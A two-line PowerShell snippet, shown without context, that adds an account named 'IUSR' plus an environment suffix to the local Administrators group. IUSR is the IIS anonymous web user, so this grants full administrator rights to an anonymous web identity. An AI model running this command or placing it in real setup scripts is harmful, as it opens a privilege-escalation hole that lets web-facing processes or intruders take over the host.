[object[]]$x = "IUSR$env:SUFFIX"
Add-LocalGroupMember Administrators $x
